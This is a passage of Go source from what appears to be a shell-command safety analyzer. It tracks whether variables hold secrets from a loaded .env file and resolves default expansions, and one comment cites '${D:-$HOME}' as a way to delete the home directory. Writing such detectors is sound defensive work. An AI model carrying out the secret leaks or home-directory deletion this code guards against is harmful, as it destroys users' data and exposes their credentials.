			if t, ok := litText(n); ok && (secretVarName(t) || ss.secrets[t]) {
				found = true
			}
		}
		return !found
	})
	return found
}

// varTainted reports a variable that holds a secret: one the call tainted
// or, after the call loaded a secret file (secretEnv), one it did not set.
func varTainted(taint map[string]bool, vals map[string]*varVals, secretEnv bool, name string) bool {
	t, set := taint[name]
	return t || secretEnv && !set && vals[name] == nil && loadedVar(name)
}

// loadedVar reports a variable name a loaded .env file may have set: not
// one the shell sets itself ($?, $1, $RANDOM, $BASH_SOURCE).
func loadedVar(name string) bool {
	if name == "" || name[0] >= '0' && name[0] <= '9' || strings.HasPrefix(name, "BASH") {
		return false
	}
	switch name {
	case "RANDOM", "LINENO", "SECONDS", "PPID", "UID", "EUID", "OLDPWD", "PWD", "HOME", "OPTIND", "OPTARG", "REPLY", "HOSTNAME", "SHLVL", "PIPESTATUS", "FUNCNAME", "EPOCHSECONDS", "EPOCHREALTIME", "SRANDOM":
		return false
	}
	for _, c := range name {
		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

// homeDefault is the text of a default value (${X:-/tmp}), with $HOME or
// ${HOME} at its start read as the home directory (${D:-$HOME} deletes
// the home when D is unset); false for any other expansion in it.
func homeDefault(w *syntax.Word, home string) (string, bool) {
	if len(w.Parts) > 0 && home != "" {
		if pe, ok := w.Parts[0].(*syntax.ParamExp); ok && pe.Param != nil && pe.Param.Value == "HOME" && pe.Exp == nil &&
			!pe.Length && !pe.Excl && pe.Index == nil && pe.Slice == nil && pe.Repl == nil && pe.Names == 0 {
			rest, ok := litText(&syntax.Word{Parts: w.Parts[1:]})
			return home + rest, ok
		}
	}
	return litText(w)
}
